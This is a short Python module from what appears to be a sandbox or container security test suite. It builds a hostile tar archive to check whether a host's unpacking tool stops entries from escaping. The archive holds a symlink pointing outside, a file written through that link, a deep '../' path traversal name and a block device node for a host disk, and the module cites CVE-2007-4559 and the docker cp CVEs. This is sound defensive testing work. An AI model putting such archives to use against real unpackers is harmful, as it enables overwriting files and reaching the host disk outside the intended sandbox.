"""Attacks by an image: what is attacked is the tool of the host that unpacks it."""

import io
import os

from scratchlab.attacks.attack import Evidence, attack

DEEP = 64


@attack(
    "tar(5)", "openat2(2)", stopped_by=("unpack",), side="outside",
    history="CVE-2007-4559 (Python's tarfile), CVE-2018-15664 and CVE-2019-14271 (docker cp)",
)  # fmt: skip
def image_tar(path: str, outside: str, disk: int) -> Evidence:
    """Make an image whose entries lead out: by a link that came before, by `..`, by a device node.  tar(5)"""
    import tarfile  # here: every keeper imports this module, and what it takes to write a tar is 3 ms more

    def add(name: str, content: bytes = b"", **fields: object) -> None:
        entry = tarfile.TarInfo(name)
        for field, value in {"size": len(content), **fields}.items():
            setattr(entry, field, value)
        image.addfile(entry, io.BytesIO(content))

    with tarfile.open(path, "w") as image:
        add("exit", type=tarfile.SYMTYPE, linkname=outside)
        add("exit/by-link", b"was here")
        add("../" * DEEP + outside.lstrip("/") + "/by-dots", b"was here")
        add("disk", type=tarfile.BLKTYPE, devmajor=os.major(disk), devminor=os.minor(disk))
    return Evidence(True, "an image of four entries: a link that leads out, a file behind it, a file behind ../.., a disk")
